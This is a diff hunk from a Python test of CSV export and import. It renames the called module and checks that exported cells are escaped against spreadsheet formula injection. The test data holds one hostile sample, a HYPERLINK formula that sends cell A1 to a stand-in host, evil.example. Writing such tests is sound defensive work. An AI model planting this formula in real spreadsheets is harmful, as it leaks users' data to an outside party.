@@ -153,13 +153,13 @@ def test_csv_export_writes_no_formula_and_import_restores_the_text(
         )
     )
     target = tmp_path / "out.csv"
-    archive.imports.export_csv(target)
+    archive.exchange.export_csv(target)
     rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
     cells = [value for row in rows for value in row.values()]
     assert all(not value.startswith(("=", "+", "-", "@")) for value in cells)
     assert rows[0]["title"].startswith("'=HYPERLINK")
     with Archive.open(tmp_path / "other") as other:
-        report = other.imports.import_csv(target)
+        report = other.exchange.import_csv(target)
         assert len(report.created) == 1
         back = other.sessions.get(report.created[0])
     assert back.title == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
